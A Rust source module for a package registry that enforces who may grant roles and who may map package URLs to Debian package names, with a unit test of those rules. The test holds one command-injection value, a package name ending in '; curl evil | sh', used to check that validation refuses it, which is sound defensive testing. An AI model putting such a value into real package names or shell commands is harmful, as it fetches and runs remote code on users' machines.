//! The rules and state of registry roles and the name mapping (`spec/requirements.md`, System
//! packages): the operator grants and revokes roles; holders of the `packages` role (and the
//! operator) state which OS packages stand for a purl.

use super::*;
use crate::entry::OPERATOR;
use crate::packages::{ROLE_PACKAGES, ROLES, Systems, check_purl, check_systems};

/// A purl's mapping as the log knows it.
#[derive(Debug, Clone)]
pub struct PackageMapState {
    /// The purl as first stated.
    pub purl: String,
    /// Packages by system (empty: withdrawn).
    pub systems: Systems,
    /// Who stated it last.
    pub user: String,
    /// When.
    pub time: u64,
    /// Log index of the entry in force.
    pub index: u64,
    /// Log indexes of every entry about the purl.
    pub history: Vec<u64>,
}

impl Registry {
    /// Whether `user` holds `role`.
    pub fn has_role(&self, role: &str, user: &str) -> bool {
        self.roles
            .get(role)
            .is_some_and(|users| users.contains(&user.to_ascii_lowercase()))
    }

    /// The accounts holding `role`.
    pub fn role_holders(&self, role: &str) -> Vec<String> {
        self.roles
            .get(role)
            .map(|u| u.iter().cloned().collect())
            .unwrap_or_default()
    }

    /// A purl's mapping (the key [`check_purl`] gives), withdrawn ones too.
    pub fn package_map(&self, purl: &str) -> Option<&PackageMapState> {
        let key = check_purl(purl).ok()?;
        self.packages.get(&key).map(|p| &**p)
    }

    /// Every mapping in force, by purl.
    pub fn package_maps(&self) -> impl Iterator<Item = &PackageMapState> {
        self.packages
            .values()
            .map(|p| &**p)
            .filter(|p| !p.systems.is_empty())
    }

    /// A role grant or revocation: by the operator, of a known role, to an account, changing
    /// something.
    pub(super) fn check_role(
        &self,
        actor: &str,
        role: &str,
        user: &str,
        grant: bool,
    ) -> Result<(), Violation> {
        if actor != OPERATOR {
            return Err(violation(
                Rule::NotOperator,
                "only the registry's operator grants and revokes roles",
            ));
        }
        if !ROLES.contains(&role) {
            return Err(violation(
                Rule::UnknownRole,
                format!(
                    "unknown role {:?}: one of {}",
                    role.chars().take(40).collect::<String>(),
                    ROLES.join(", ")
                ),
            ));
        }
        if !self.accounts.contains_key(&user.to_ascii_lowercase()) {
            return Err(violation(Rule::UnknownUser, format!("no account {user}")));
        }
        if self.has_role(role, user) == grant {
            let now = if grant { "holds" } else { "does not hold" };
            return Err(violation(
                Rule::NoChange,
                format!("{user} {now} the role {role}"),
            ));
        }
        Ok(())
    }

    /// A mapping: by a maintainer of the mapping or the operator, of a purl a mapping can
    /// name, to valid package names; withdrawing only what is mapped.
    pub(super) fn check_package_map(
        &self,
        actor: &str,
        purl: &str,
        systems: &Systems,
    ) -> Result<(), Violation> {
        if actor != OPERATOR && !self.has_role(ROLE_PACKAGES, actor) {
            return Err(violation(
                Rule::NotMaintainer,
                format!("{actor} does not maintain the package mapping (role {ROLE_PACKAGES})"),
            ));
        }
        let key = check_purl(purl).map_err(|e| violation(Rule::InvalidPackage, e.0))?;
        check_systems(systems).map_err(|e| violation(Rule::InvalidPackage, e.0))?;
        let now = self.packages.get(&key);
        if now.is_some_and(|p| &p.systems == systems) || (systems.is_empty() && now.is_none()) {
            return Err(violation(
                Rule::NoChange,
                format!("{purl} is mapped so already"),
            ));
        }
        Ok(())
    }

    pub(super) fn apply_role(&mut self, role: &str, user: &str, grant: bool) {
        let users = self.roles.entry(role.to_string()).or_default();
        if grant {
            users.insert(user.to_ascii_lowercase());
        } else {
            users.remove(&user.to_ascii_lowercase());
        }
    }

    pub(super) fn apply_package_map(
        &mut self,
        index: u64,
        (actor, time): (&str, u64),
        purl: &str,
        systems: &Systems,
    ) {
        let Ok(key) = check_purl(purl) else { return };
        let p = Arc::make_mut(self.packages.entry(key).or_insert_with(|| {
            Arc::new(PackageMapState {
                purl: purl.to_string(),
                systems: Systems::new(),
                user: String::new(),
                time: 0,
                index: 0,
                history: Vec::new(),
            })
        }));
        p.systems = systems.clone();
        p.user = actor.to_string();
        p.time = time;
        p.index = index;
        p.history.push(index);
    }
}

#[cfg(test)]
mod tests {
    use ed25519_dalek::SigningKey;

    use super::*;
    use crate::authority_tests::{account, entry};
    use crate::packages::SystemPackages;

    fn key(n: u8) -> SigningKey {
        SigningKey::from_bytes(&[n; 32])
    }

    fn debian(names: &[&str]) -> Systems {
        let mut s = Systems::new();
        s.insert(
            "debian".into(),
            SystemPackages {
                build: names.iter().map(|n| n.to_string()).collect(),
                run: None,
            },
        );
        s
    }

    fn map(actor: &str, k: &SigningKey, purl: &str, systems: Systems) -> Entry {
        entry(
            actor,
            k,
            Action::PackageMap {
                purl: purl.into(),
                systems,
            },
        )
    }

    #[test]
    fn roles_and_the_mapping_follow_the_rules() {
        let op = key(9);
        let mut reg = Registry::with_operator(op.verifying_key());
        let mut i = 0;
        let mut ok = |reg: &mut Registry, e: Entry| {
            reg.apply(i, &e).unwrap();
            i += 1;
        };
        let refused = |reg: &mut Registry, e: Entry, rule: Rule| {
            let before = format!("{reg:?}");
            let err = reg.apply(99, &e).unwrap_err();
            assert_eq!(err.rule, rule, "{err}");
            assert_eq!(
                format!("{reg:?}"),
                before,
                "a refused entry changed the state"
            );
        };
        ok(&mut reg, account("alice", &key(1)));
        ok(&mut reg, account("bob", &key(2)));
        let grant = |role: &str, user: &str| Action::RoleGrant {
            role: role.into(),
            user: user.into(),
        };
        // Only the operator grants roles, of known roles, to accounts.
        refused(
            &mut reg,
            entry("alice", &key(1), grant("packages", "alice")),
            Rule::NotOperator,
        );
        refused(
            &mut reg,
            entry(OPERATOR, &op, grant("wizards", "alice")),
            Rule::UnknownRole,
        );
        refused(
            &mut reg,
            entry(OPERATOR, &op, grant("packages", "nobody")),
            Rule::UnknownUser,
        );
        // A key other than the log's cannot speak for the operator.
        refused(
            &mut reg,
            entry(OPERATOR, &key(3), grant("packages", "alice")),
            Rule::NotOperator,
        );
        ok(&mut reg, entry(OPERATOR, &op, grant("packages", "alice")));
        refused(
            &mut reg,
            entry(OPERATOR, &op, grant("packages", "alice")),
            Rule::NoChange,
        );
        assert!(reg.has_role("packages", "Alice"));
        assert_eq!(reg.role_holders("packages"), ["alice"]);

        // Maintainers map; others may not; every name is checked.
        let xml = "pkg:generic/libxml2";
        refused(
            &mut reg,
            map("bob", &key(2), xml, debian(&["libxml2-dev"])),
            Rule::NotMaintainer,
        );
        refused(
            &mut reg,
            map("alice", &key(1), "pkg:nosuch/x", debian(&["x1"])),
            Rule::InvalidPackage,
        );
        refused(
            &mut reg,
            map(
                "alice",
                &key(1),
                xml,
                debian(&["libxml2-dev; curl evil | sh"]),
            ),
            Rule::InvalidPackage,
        );
        refused(
            &mut reg,
            map("alice", &key(1), xml, Systems::new()),
            Rule::NoChange,
        );
        ok(
            &mut reg,
            map("alice", &key(1), xml, debian(&["libxml2-dev"])),
        );
        refused(
            &mut reg,
            map("alice", &key(1), xml, debian(&["libxml2-dev"])),
            Rule::NoChange,
        );
        // The operator maps too; a later mapping replaces the earlier.
        ok(
            &mut reg,
            map(
                OPERATOR,
                &op,
                "pkg:GENERIC/libxml2",
                debian(&["libxml2-dev", "pkgconf"]),
            ),
        );
        let m = reg.package_map(xml).unwrap();
        assert_eq!(m.systems["debian"].build, ["libxml2-dev", "pkgconf"]);
        assert_eq!(m.history, [3, 4]);
        assert_eq!(m.user, OPERATOR);
        assert_eq!(reg.package_maps().count(), 1);

        // A revoked maintainer may map no more; a withdrawal empties the mapping.
        ok(
            &mut reg,
            entry(
                OPERATOR,
                &op,
                Action::RoleRevoke {
                    role: "packages".into(),
                    user: "alice".into(),
                },
            ),
        );
        refused(
            &mut reg,
            map("alice", &key(1), xml, Systems::new()),
            Rule::NotMaintainer,
        );
        ok(&mut reg, map(OPERATOR, &op, xml, Systems::new()));
        assert!(reg.package_map(xml).unwrap().systems.is_empty());
        assert_eq!(reg.package_maps().count(), 0);
    }
}
